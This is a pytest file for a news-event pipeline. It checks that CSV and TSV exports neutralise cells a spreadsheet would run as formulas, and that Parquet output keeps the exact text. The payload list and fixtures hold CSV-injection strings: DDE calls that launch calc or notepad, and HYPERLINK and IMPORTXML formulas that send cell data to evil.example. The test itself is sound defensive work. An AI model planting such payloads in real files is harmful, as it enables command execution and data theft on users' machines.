"""Export: CSV cells a spreadsheet would run as formulas are neutralised; Parquet keeps the exact text."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aleppo_events.runs.export import csv_safe, csv_unsafe

MEETING = "اجتمع وزير الخارجية التركي مع نظيره الروسي في أنقرة يوم الخميس لبحث الأوضاع في سوريا."

# What a hostile folder puts where a spreadsheet looks: OWASP's examples and their relatives.
PAYLOADS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|'/c calc'!A0",
    "\t=1",
    "\r=1",
    "\uff1d1+1",  # full-width =
    "'=1",  # already quoted once: one more, so that reading back gives this text
    "DDE(\"cmd\";\"/C calc\";\"x\")",  # no formula start: left alone
]
FORMULA_CHARS = tuple("=+-@\t\r\x00\uff1d\uff0b\uff0d\uff20")


def starts_like_a_formula(cell: str) -> bool:
    return cell.lstrip("'").startswith(FORMULA_CHARS) and not cell.startswith("'")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_like_cell_gets_a_leading_quote_and_reads_back_exactly(payload: str) -> None:
    safe = csv_safe(payload)
    assert not starts_like_a_formula(safe)
    assert csv_unsafe(safe) == payload
    assert safe == (payload if payload.startswith("DDE") else "'" + payload)


@settings(max_examples=500)
@given(text=st.text(alphabet=st.sampled_from(list("'=+-@\t\r\x00\uff1d\uff0bab اج1 ")), max_size=12) | st.text())
def test_csv_safe_always_neutralises_and_round_trips(text: str) -> None:
    safe = csv_safe(text)
    assert not starts_like_a_formula(safe)
    assert csv_unsafe(safe) == text
    assert safe in (text, "'" + text)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    """A folder whose file names, metadata and sentences start like formulas."""
    from aleppo_events.pipeline import run

    folder = tmp_path_factory.mktemp("injection")
    names = ["=cmd", "+1", "-1", "@SUM(A1)", "'=quoted", "plain"]
    for name in names:
        # the sentence itself starts with "-", "=", "+", "@"
        (folder / f"{name}.txt").write_text(f"- {MEETING}\n= {MEETING}\n+{MEETING}\n@{MEETING}\n", encoding="utf-8")
    rows = ["article_id,source,title,url"]
    rows += [f'"{n}","=HYPERLINK(""http://evil.example"")","+SUM(1,2)","-x"' for n in names]
    (folder / "metadata.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path_factory.mktemp("injection_out")
    summary = run(folder, out)
    assert summary["errors"] == 0 and summary["events"] > 0
    return out


def test_no_csv_cell_of_any_table_starts_like_a_formula(hostile_run: Path) -> None:
    quoted = 0
    for path in sorted(hostile_run.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not starts_like_a_formula(cell), (path.name, cell)
                    quoted += cell.startswith("'")
    assert quoted > 50  # ids, sources, titles and sentences were all neutralised


def test_parquet_keeps_the_exact_text_and_the_csv_reads_back_to_it(hostile_run: Path, tmp_path: Path) -> None:
    import shutil

    import aleppo_events as ae

    articles = pd.read_parquet(hostile_run / "articles.parquet")
    assert sorted(articles.article_id) == sorted(["=cmd", "+1", "-1", "@SUM(A1)", "'=quoted", "plain"])
    assert set(articles.source) == {'=HYPERLINK("http://evil.example")'}
    assert set(articles.title) == {"+SUM(1,2)"}
    events = pd.read_parquet(hostile_run / "events.parquet")
    assert {s[0] for s in events.sentence} >= {"-", "="}

    csv_only = tmp_path / "csv_only"
    csv_only.mkdir()
    for path in hostile_run.glob("*.csv"):
        shutil.copy(path, csv_only / path.name)
    from_csv = ae.load(csv_only)
    from_parquet = ae.load(hostile_run)
    for name in ("articles", "events", "event_actors", "actor_mentions"):
        for column in from_parquet[name].columns:
            if from_parquet[name][column].dtype == "string":
                assert from_csv[name][column].tolist() == from_parquet[name][column].tolist(), (name, column)


def test_the_cameo_tsv_neutralises_formula_like_cells_too(hostile_run: Path) -> None:
    from aleppo_events.analysis.interchange import write_cameo

    path = write_cameo(hostile_run)
    rows = [line.split("\t") for line in path.read_text(encoding="utf-8").splitlines()]
    assert len(rows) > 1
    sources = [r[rows[0].index("sources")] for r in rows[1:]]
    assert sources and all(s.startswith("'=HYPERLINK(") for s in sources)
    assert not [cell for row in rows for cell in row if starts_like_a_formula(cell)]
